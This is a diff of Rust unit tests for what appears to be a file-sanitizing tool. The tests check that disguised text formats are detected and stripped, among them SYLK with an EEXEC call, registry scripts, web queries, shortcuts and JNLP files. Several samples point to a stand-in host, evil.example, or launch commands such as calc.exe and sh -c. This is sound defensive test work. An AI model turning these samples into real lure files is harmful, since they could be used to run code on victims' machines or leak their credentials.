@@ -916,6 +916,112 @@ mod tests {
         assert!(!dangerous_mime("application/pdf"));
     }
 
+    /// Each text that another program opens as something else, with its threat id.
+    const DISGUISED: &[(&str, &[u8])] = &[
+        ("office.sylk", b"ID;PWXL;N;E\r\nC;X1;Y1;K0;EEXEC(\"calc.exe\")\r\nE\r\n"),
+        ("text.registry_script", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n"),
+        ("text.registry_script", b"REGEDIT4\n[HKEY_CURRENT_USER\\x]\n"),
+        ("text.web_query", b"WEB\r\n1\r\nhttp://evil.example/q.html\r\n"),
+        ("text.web_query", b"XLODBC\r\n1\r\nDSN=x;\r\n"),
+        ("text.internet_shortcut", b"[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\n"),
+        ("text.shell_command", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\i.ico\r\n"),
+        ("text.setup_information", b"[Version]\r\nSignature=\"$Windows NT$\"\r\n[DefaultInstall]\r\n"),
+        ("text.desktop_entry", b"[Desktop Entry]\nType=Application\nExec=sh -c x\n"),
+        ("text.shell_xml", b"<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"></libraryDescription>"),
+        ("text.shell_xml", b"<?xml version=\"1.0\"?><searchConnectorDescription xmlns=\"http://schemas.microsoft.com/windows/2009/searchConnector\"/>"),
+        ("text.shell_xml", b"<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>cmd.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>"),
+        ("text.clickonce", b"<?xml version=\"1.0\"?><asmv1:assembly xmlns:asmv1=\"urn:schemas-microsoft-com:asm.v1\"><deployment install=\"true\"/></asmv1:assembly>"),
+        ("text.jnlp", b"<?xml version=\"1.0\"?><jnlp spec=\"1.0+\" codebase=\"http://evil.example/\"></jnlp>"),
+        ("office.xml_document", b"<?xml version=\"1.0\"?><?mso-application progid=\"InfoPath.Document\"?><my:f xmlns:my=\"x\"/>"),
+        ("office.flat_xml", b"<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"/>"),
+        ("office.xml_2003", b"<?xml version=\"1.0\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"/>"),
+        ("office.xml_2003", b"<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"><Table/></Workbook>"),
+    ];
+
+    #[test]
+    fn text_that_opens_as_something_else_is_recognised_by_content() {
+        for (threat, bytes) in DISGUISED {
+            let d = disguise(bytes).unwrap_or_else(|| panic!("{threat}: not recognised"));
+            assert_eq!(d.threat, *threat, "{}", String::from_utf8_lossy(bytes));
+            assert_ne!(sniff(bytes), Kind::Text, "{threat}");
+            assert_ne!(sniff(bytes), Kind::Html, "{threat}");
+        }
+        // A UTF-16 registry script (what regedit writes).
+        let mut utf16 = vec![0xFF, 0xFE];
+        utf16.extend(
+            "Windows Registry Editor Version 5.00\r\n"
+                .encode_utf16()
+                .flat_map(u16::to_le_bytes),
+        );
+        assert_eq!(
+            disguise(&utf16).map(|d| d.threat),
+            Some("text.registry_script")
+        );
+        // Ordinary texts stay text.
+        for t in [
+            &b"ID,name\r\n1,a\r\n"[..],
+            b"web\nsite notes\n",
+            "[Version]\nこんにちは\n".as_bytes(),
+            b"<?xml version=\"1.0\"?><note>x</note>",
+        ] {
+            assert_eq!(disguise(t), None, "{}", String::from_utf8_lossy(t));
+        }
+        // A MIME single-file web page is sanitized as a message, even without mail fields.
+        assert_eq!(
+            sniff(b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\n"),
+            Kind::Mail
+        );
+    }
+
+    #[test]
+    fn disguised_text_is_removed_with_its_own_id_whatever_its_name() {
+        let policy = crate::policy::Policy::default();
+        for (threat, bytes) in DISGUISED
+            .iter()
+            .filter(|(t, _)| !matches!(*t, "office.flat_xml" | "office.xml_2003"))
+        {
+            for name in ["notes.txt", "data.csv", "x.iqy"] {
+                let out = crate::sanitize_file(bytes, Some(name), &policy);
+                assert!(out.output.is_none(), "{threat} as {name}");
+                let item = &out.report.items[0];
+                assert!(item.threats.iter().any(|t| t == threat), "{item:?}");
+                assert!(!item.reason.contains("executable or script"), "{item:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn macro_enabled_names_say_what_they_are() {
+        let policy = crate::policy::Policy::default();
+        for (name, what) in [
+            ("deck.ppsm", "slideshow"),
+            ("tools.xlam", "add-in"),
+            ("t.potm", "template"),
+        ] {
+            let out = crate::sanitize_file(b"PK\x03\x04", Some(name), &policy);
+            let item = &out.report.items[0];
+            assert!(item.reason.contains(what), "{item:?}");
+            assert!(!item.reason.contains("executable"), "{item:?}");
+            assert!(item.threats.iter().any(|t| t == "filename.macro_enabled"));
+        }
+    }
+
+    #[test]
+    fn xps_is_unsupported_with_a_reason() {
+        let mut w = crate::formats::office::PackageWriter::new();
+        w.deflated("[Content_Types].xml", b"<Types/>").unwrap();
+        w.deflated("FixedDocumentSequence.fdseq", b"<FixedDocumentSequence/>")
+            .unwrap();
+        let xps = w.finish().unwrap();
+        assert_eq!(sniff(&xps), Kind::Unsupported);
+        let out = crate::sanitize_file(&xps, Some("a.xps"), &crate::policy::Policy::default());
+        assert!(
+            out.report.items[0].reason.contains("XPS"),
+            "{:?}",
+            out.report
+        );
+    }
+
     #[test]
     fn claims_compare() {
         assert_eq!(kind_from_mime("application/pdf"), Some(Kind::Pdf));
